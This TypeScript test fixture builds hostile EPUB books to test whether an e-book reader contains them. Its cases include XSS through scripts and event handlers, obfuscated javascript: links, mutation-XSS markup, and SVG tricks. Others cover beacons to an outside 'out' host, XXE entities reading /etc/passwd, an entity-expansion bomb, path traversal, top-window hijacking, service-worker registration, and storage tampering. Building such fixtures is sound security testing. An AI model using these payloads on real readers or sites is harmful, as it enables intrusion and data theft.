import { strToU8, zipSync } from "fflate";

/** What a script of a book would do: mark the program's window and its own page, and tell the stranger. */
export const ran = (out: string): string =>
  `try{top.scriptOfBook=true}catch(e){}document.documentElement.setAttribute('data-ran','yes');fetch('${out}/ran').catch(function(){})`;

export interface HostileBook {
  name: string;
  /** Of the page: what stands in its head, in its body, before its root element, and how the root begins and ends. */
  head?: string;
  body?: string;
  before?: string;
  root?: string;
  /** The page's own media type and text where it is no usual page. */
  page?: { type: string; text: string };
  /** Further parts by name, with their media types. */
  parts?: Record<string, [type: string, text: string]>;
  /** Further items of the manifest and of the spine, further metadata, the contents. */
  manifest?: string;
  spine?: string;
  title?: string;
  contents?: string;
  packageBefore?: string;
  /** Refused as a whole: its message stands instead of its text. */
  refused?: true;
}

export const QUIET = "静かな本文";
const HTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const SVG = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const script = (out: string) => `<script>${ran(out)}</script>`;
const drawing = (out: string) => `<svg ${SVG} width="9" height="9" onload="${ran(out)}">${script(out)}</svg>`;

/** Books that try to run, to phone home or to break out. `out` is the stranger's address. */
export const hostileBooks = (out: string): readonly HostileBook[] => [
  ...running(out),
  ...phoning(out),
  ...leaving(out),
];

const running = (out: string): HostileBook[] => [
  { name: "a script in the page", head: script(out) },
  {
    name: "a script of the book",
    head: '<script src="s.js"></script>',
    parts: { "s.js": ["text/javascript", ran(out)] },
  },
  { name: "a script from elsewhere", head: `<script src="${out}/s.js"></script>` },
  { name: "a module", head: `<script type="module">import "${out}/m.js";</script>` },
  {
    name: "a script under a prefix",
    body: `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${ran(out)}</x:script>`,
  },
  {
    name: "a handler of load",
    body: `<img src="none.png" onerror="${ran(out)}" alt=""/><svg ${SVG} onload="${ran(out)}"/>`,
  },
  {
    name: "handlers that need nobody",
    head: "<style>@keyframes k{from{left:0}}</style>",
    body: `<p style="animation:k 1ms" onanimationstart="${ran(out)}">a</p><input autofocus="" onfocus="${ran(out)}"/><details open="" ontoggle="${ran(out)}"><p>b</p></details>`,
  },
  {
    name: "a link that is a script",
    body: `<a data-press="" href="javascript:void(fetch('${out}/press'))">押す</a>`,
  },
  {
    name: "a link that hides that it is a script",
    body: `<a data-press="" href=" java&#10;script&#9;:void(fetch('${out}/press'))">押す</a>`,
  },
  { name: "a drawing with a script", body: drawing(out) },
  {
    name: "a drawing that is the page",
    page: {
      type: "image/svg+xml",
      text: `<svg ${SVG} ${XLINK} viewBox="0 0 200 20" onload="${ran(out)}">${script(out)}<text y="15">${QUIET}</text></svg>`,
    },
  },
  {
    name: "a link that a drawing makes a script",
    body: `<svg ${SVG} ${XLINK} width="99" height="40"><a data-press=""><animate attributeName="href" values="javascript:void(fetch('${out}/press'))" dur="1ms" fill="freeze"/><set attributeName="xlink:href" to="javascript:void(fetch('${out}/press'))"/><text y="20">押す</text></a></svg>`,
  },
  {
    name: "a page within a drawing",
    body: `<svg ${SVG} width="99" height="40"><foreignObject width="99" height="40"><iframe ${HTML} src="${out}/frame"></iframe></foreignObject></svg>`,
  },
  {
    name: "a drawing used from elsewhere",
    body: `<svg ${SVG} ${XLINK}><use href="${out}/d.svg#a"/><use xlink:href="data:image/svg+xml;base64,${Buffer.from(drawing(out)).toString("base64")}#a"/><image href="${out}/i.png"/></svg>`,
  },
  {
    name: "a frame with a page in its attribute",
    body: `<iframe srcdoc="&lt;script&gt;${ran(out)}&lt;/script&gt;"></iframe>`,
  },
  {
    name: "a frame with a page in its address",
    body: `<iframe src="data:text/html,&lt;script&gt;${ran(out)}&lt;/script&gt;"></iframe>`,
  },
  {
    name: "markup that changes when it is mended",
    page: {
      type: "application/xhtml+xml",
      text: `<html><body><p>${QUIET}<br><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran(out)}&gt;"><noscript><p title="</noscript><img src=x onerror=${ran(out).replaceAll(" ", "")}>"></body></html>`,
    },
  },
  {
    name: "a shadow that is declared",
    body: `<div><template shadowrootmode="open"><img src="${out}/i.png" onerror="${ran(out)}" alt=""/>${script(out)}</template></div>`,
  },
  {
    name: "a title and contents of markup",
    title: `悪い本&lt;img src="${out}/t.png" onerror="${ran(out)}"&gt;`,
    contents: `<a href="a.xhtml">&lt;img src=x onerror="${ran(out)}"&gt;目</a>`,
  },
  { name: "contents that are a script", contents: `<a href="javascript:void(fetch('${out}/press'))">目</a>` },
];

const phoning = (out: string): HostileBook[] => [
  { name: "a refresh to elsewhere", head: `<meta http-equiv="refresh" content="0;url=${out}/refresh"/>` },
  { name: "a frame of elsewhere", body: `<iframe src="${out}/frame"></iframe>` },
  { name: "objects", body: `<object data="${out}/o"></object><embed src="${out}/e"/>` },
  {
    name: "a base of elsewhere",
    head: `<base href="${out}/"/>`,
    body: '<img src="i.png" alt=""/><a href="x.xhtml">次</a>',
  },
  {
    name: "links that fetch before",
    head: `<link rel="prefetch" href="${out}/p"/><link rel="preconnect" href="${out}"/><link rel="dns-prefetch" href="${out}"/><link rel="modulepreload" href="${out}/m.js"/><link rel="icon" href="${out}/i.png"/><link rel="preload" as="image" href="${out}/i.png"/>`,
  },
  {
    name: "a style sheet that connects before",
    head: `<link rel="stylesheet preconnect preload" as="style" href="${out}/s.css"/>`,
  },
  {
    name: "pictures and sounds of elsewhere",
    body: `<img src="${out}/i.png" alt=""/><img srcset="${out}/i2.png 2x" alt=""/><picture><source srcset="${out}/i3.png"/><img alt=""/></picture><video poster="${out}/v.png" src="${out}/v.mp4" autoplay=""></video><audio src="${out}/a.mp3" autoplay=""></audio>`,
  },
  {
    name: "letters of elsewhere",
    head: `<style>@font-face{font-family:f;src:url(${out}/f.woff2)} p{font-family:f}</style><link rel="stylesheet" href="f.css"/>`,
    parts: { "f.css": ["text/css", `@font-face{font-family:g;src:url("${out}/g.woff")} body{font-family:g}`] },
  },
  {
    name: "style sheets of elsewhere",
    head: `<style>@import url("${out}/s.css");</style><link rel="stylesheet" href="${out}/t.css"/><link rel="stylesheet" href="i.css"/>`,
    parts: { "i.css": ["text/css", `@import "${out}/u.css"; @import url(${out}/v.css) screen;`] },
  },
  {
    name: "styles that tell",
    head: `<style>body{background:url(${out}/b.png);cursor:url(${out}/c.cur),auto} p{list-style:url(${out}/l.png)} p::before{content:url(${out}/k.png)} a[href^="x"]{background:image-set("${out}/x.png" 1x)} *{--u:url(${out}/u.png);border-image:var(--u)}</style>`,
    body: '<a href="x.xhtml" style="mask:url(#m)">次</a>',
  },
  {
    name: "instructions before the page",
    before: `<?xml-stylesheet href="${out}/s.css" type="text/css"?><?xml-stylesheet href="${out}/x.xsl" type="text/xsl"?>`,
  },
  {
    name: "entities of elsewhere",
    before: `<!DOCTYPE html [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "${out}/entity">]>`,
    body: "<p>前&file;&far;後</p>",
  },
  {
    name: "entities of elsewhere in its package",
    packageBefore: `<!DOCTYPE package [<!ENTITY far SYSTEM "${out}/entity"><!ENTITY % all SYSTEM "${out}/all">%all;]>`,
  },
  {
    name: "entities without end",
    packageBefore: `<!DOCTYPE package [<!ENTITY a "aaaaaaaaaa">${[..."bcdefghijk"].map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghij"[at]};`.repeat(10)}">`).join("")}]>`,
    title: "&k;",
    refused: true,
  },
  {
    name: "a page that is elsewhere",
    manifest: `<item id="r" href="${out}/r.xhtml" media-type="application/xhtml+xml"/>`,
    spine: '<itemref idref="r"/>',
  },
  {
    name: "parts above the book",
    manifest:
      '<item id="u" href="../../../u.xhtml" media-type="application/xhtml+xml"/><item id="w" href="/api/v1/session" media-type="application/xhtml+xml"/>',
    parts: { "../../../v.xhtml": ["application/xhtml+xml", script(out)] },
    spine: '<itemref idref="w" linear="no"/>',
  },
];

const leaving = (out: string): HostileBook[] => [
  {
    name: "forms",
    body: `<form action="${out}/form" method="post" target="_top"><input name="a" value="b"/><button data-press="">送る</button></form><form><button formaction="${out}/formaction" data-press="">送る</button></form>`,
  },
  {
    name: "a link that takes the whole window",
    body: `<a data-press="" href="inner.xhtml#x" target="_top" ping="${out}/ping">押す</a>`,
    parts: { "inner.xhtml": ["application/xhtml+xml", `<html ${HTML}><body><p>中</p></body></html>`] },
  },
  {
    name: "a script that takes the whole window",
    head: `<script>top.location='${out}/top';parent.location='${out}/parent'</script>`,
  },
  { name: "windows", head: `<script>open('${out}/window');top.open('${out}/window2')</script>` },
  {
    name: "messages to the program",
    head: `<script>parent.postMessage({keep:['/x']},'*');top.postMessage('x','*');fetch('${out}/sent')</script>`,
  },
  {
    name: "a worker for the whole site",
    head: `<script>navigator.serviceWorker.register('/evil.js');new Worker('${out}/w.js');new SharedWorker('${out}/w.js');fetch('${out}/sent')</script>`,
  },
  {
    name: "a hand in what the browser keeps",
    head: `<script>document.cookie='evil=1';localStorage.evil='1';indexedDB.open('evil');caches.open('evil');fetch('${out}/sent')</script>`,
  },
  {
    name: "a page over the program",
    head: "<style>html,body{position:fixed;inset:0;z-index:2147483647}</style>",
    body: '<dialog open="" style="position:fixed;inset:0">蓋</dialog><div popover="manual" id="q">蓋</div>',
  },
];

const container =
  '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/></rootfiles></container>';

/** The page with the attack, as its file has it. */
export function pageOf({ before = "", head = "", body = "", page }: HostileBook): { type: string; text: string } {
  return (
    page ?? {
      type: "application/xhtml+xml",
      text: `${before}<html ${HTML}><head><title>x</title>${head}</head><body><p>${QUIET}</p>${body}</body></html>`,
    }
  );
}

/** The book as a file. */
export function bookFile(book: HostileBook): Buffer {
  const {
    manifest = "",
    spine = "",
    title = "悪い本",
    contents = '<a href="a.xhtml">目</a>',
    packageBefore = "",
  } = book;
  const page = pageOf(book);
  const parts = Object.entries(book.parts ?? {});
  const items = parts.map(([name, [type]], at) => `<item id="p${at}" href="${name}" media-type="${type}"/>`).join("");
  const files: Record<string, string> = {
    mimetype: "application/epub+zip",
    "META-INF/container.xml": container,
    "b.opf": `${packageBefore}<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="i">x</dc:identifier><dc:title>${title}</dc:title><dc:language>ja</dc:language></metadata><manifest><item id="a" href="a.xhtml" media-type="${page.type}"/><item id="n" href="n.xhtml" media-type="application/xhtml+xml" properties="nav"/>${items}${manifest}</manifest><spine><itemref idref="a"/>${spine}</spine></package>`,
    "n.xhtml": `<html ${HTML} xmlns:epub="http://www.idpf.org/2007/ops"><head><title>x</title></head><body><nav epub:type="toc"><ol><li>${contents}</li></ol></nav></body></html>`,
    "a.xhtml": page.text,
    ...Object.fromEntries(parts.map(([name, [, text]]) => [name, text])),
  };
  return Buffer.from(zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, strToU8(text)]))));
}
